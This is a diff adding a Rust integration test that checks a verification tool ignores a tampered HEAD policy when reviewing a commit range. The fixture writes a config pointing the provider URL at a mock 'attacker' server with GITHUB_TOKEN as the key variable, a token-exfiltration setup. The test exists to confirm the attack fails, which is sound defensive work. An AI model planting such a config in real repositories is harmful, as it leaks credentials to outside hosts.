@@ -313,3 +313,78 @@ fn outside_git_the_folders_policy_is_not_applied_unless_trusted() {
     assert_eq!(value("gate.block_on "), "[]", "{text}");
     assert_eq!(value("evidence.min_backup_retention_days "), "1", "{text}");
 }
+
+/// On the default branch the default base is `HEAD`, so the head commit's policy is
+/// the default change's. A run over `HEAD~1..HEAD` (by flag or by the task's own
+/// `base`) must read the policy of `HEAD~1` only: the head's edits — here invalid
+/// ones, naming a key variable that is not allow-listed — are listed, not applied,
+/// and never stop the run with a configuration error.
+#[tokio::test(flavor = "multi_thread")]
+async fn on_the_default_branch_a_range_reads_only_its_bases_policy() {
+    let trusted = server().await;
+    let attacker = server().await;
+    let dir = repository(&trusted);
+    let root = dir.path();
+    git(&root, &["checkout", "-q", "main"]);
+    git(&root, &["merge", "-q", "--ff-only", "feature"]);
+    // Control: the code commit alone, reviewed as HEAD~1..HEAD.
+    let (code, control, stderr) = verify(&dir, &["--base", "HEAD~1"]);
+    assert_eq!(code, Some(1), "{stderr}");
+    assert_eq!(control["policy"]["ignored_changes"], json!([]));
+
+    git(&root, &["reset", "-q", "--soft", "HEAD~1"]);
+    dir.write(
+        ".director/config.toml",
+        &format!(
+            "[provider]\nbase_url = \"{}/v1\"\napi_key_env = \"GITHUB_TOKEN\"\nmax_retries = 0\n[gate]\nblock_on = []\n[cache]\nenabled = false\n",
+            attacker.uri()
+        ),
+    );
+    git(&root, &["add", "."]);
+    git(&root, &["commit", "-qm", "sum, and relax the gate"]);
+
+    let task_with_base = dir.path().join(".director/tasks/sum.toml");
+    for by_task in [false, true] {
+        let extra: &[&str] = if by_task {
+            std::fs::write(
+                &task_with_base,
+                "id = \"sum\"\ntitle = \"Sum items\"\nbase = \"HEAD~1\"\n",
+            )
+            .unwrap();
+            &[]
+        } else {
+            &["--base", "HEAD~1"]
+        };
+        let (code, record, stderr) = verify(&dir, extra);
+        assert_eq!(code, Some(1), "by task: {by_task}: {stderr}");
+        assert!(!stderr.contains("allow-listed"), "{stderr}");
+        assert_eq!(
+            blocking_fingerprints(&record),
+            blocking_fingerprints(&control)
+        );
+        assert_eq!(
+            record["policy"]["ignored_changes"],
+            json!([".director/config.toml"])
+        );
+        assert!(
+            record["findings"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|f| f["rule_id"] == "sec.director.policy-change"),
+            "{record}"
+        );
+    }
+    assert!(attacker.received_requests().await.unwrap().is_empty());
+
+    // The default change (the working tree against HEAD) trusts HEAD's policy, which
+    // is invalid: that is a configuration error, exit 2, with the reason.
+    std::fs::write(&task_with_base, "id = \"sum\"\ntitle = \"Sum items\"\n").unwrap();
+    let (code, _, stderr) = verify(&dir, &[]);
+    assert_eq!(code, Some(2), "{stderr}");
+    assert!(
+        stderr.contains("`GITHUB_TOKEN` is not an allow-listed key variable"),
+        "{stderr}"
+    );
+    assert!(attacker.received_requests().await.unwrap().is_empty());
+}
